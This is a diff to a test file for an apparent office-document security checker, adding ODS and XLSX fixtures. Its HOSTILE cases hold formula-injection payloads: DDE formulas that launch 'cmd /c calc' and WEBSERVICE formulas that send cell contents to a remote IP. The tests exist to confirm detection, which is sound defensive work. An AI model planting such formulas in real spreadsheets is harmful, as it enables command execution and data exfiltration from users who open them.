@@ -71,7 +71,8 @@ ODT_BODY = (
 )
 ODS_BODY = (
     '<table:table table:name="Budget"><table:table-row><table:table-cell'
-    ' table:formula="of:=SUM([.A1:.A2])"/></table:table-row></table:table>'
+    ' table:formula="of:=SUM([.A1:.A2])"/><table:table-cell'
+    ' table:formula="of:=&quot;Poste|DDE(&quot;&amp;[.A1]"/></table:table-row></table:table>'
 )
 
 
@@ -194,7 +195,8 @@ S_NS = ' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
 # Formulas of a real budget: a sum, and a text holding a « | » inside quotes.
 SHEET_ROWS = (
     '<row r="1"><c r="A1"><v>1200</v></c><c r="B1"><f>SUM(A1:A3)</f><v>1200</v></c>'
-    '<c r="C1" t="str"><f>"Poste|"&amp;A1</f><v>Poste|1200</v></c></row>'
+    '<c r="C1" t="str"><f>"Poste|"&amp;A1</f><v>Poste|1200</v></c>'
+    '<c r="D1" t="str"><f>"voir WEBSERVICE(x) et DDE(y)"</f></c></row>'
 )
 
 
@@ -1090,6 +1092,24 @@ HOSTILE = {
         lambda: ods_with("<table:dde-links><table:dde-link/></table:dde-links>"),
         _DDE,
     ),
+    "ODS: DDE() formula": (
+        "a.ods",
+        lambda: ods_with(
+            "<table:table><table:table-row><table:table-cell"
+            ' table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
+            "</table:table-row></table:table>"
+        ),
+        _DDE,
+    ),
+    "ODS: WEBSERVICE() formula": (
+        "a.ods",
+        lambda: ods_with(
+            "<table:table><table:table-row><table:table-cell"
+            ' table:formula="of:=WEBSERVICE(&quot;https://192.0.2.7/p?&quot;&amp;[.A1])"/>'
+            "</table:table-row></table:table>"
+        ),
+        _REMOTE.format("fonction WEBSERVICE"),
+    ),
     "ODT: entity expansion (billion laughs)": (
         "a.odt",
         lambda: odf_bytes(
@@ -1174,6 +1194,14 @@ HOSTILE = {
         "a.xlsx",
         lambda: xlsx_bytes(rows='<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>'),
         _DDE,
+    ),
+    "XLSX: WEBSERVICE formula": (
+        "a.xlsx",
+        lambda: xlsx_bytes(
+            rows='<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("https://192.0.2.7/"&amp;B1)</f>'
+            "</c></row>"
+        ),
+        _REMOTE.format("fonction WEBSERVICE"),
     ),
     "XLSX: DDE link": ("a.xlsx", lambda: xlsx_external_workbook(dde=True), _DDE),
     "XLSX: link to a workbook on a network share": (
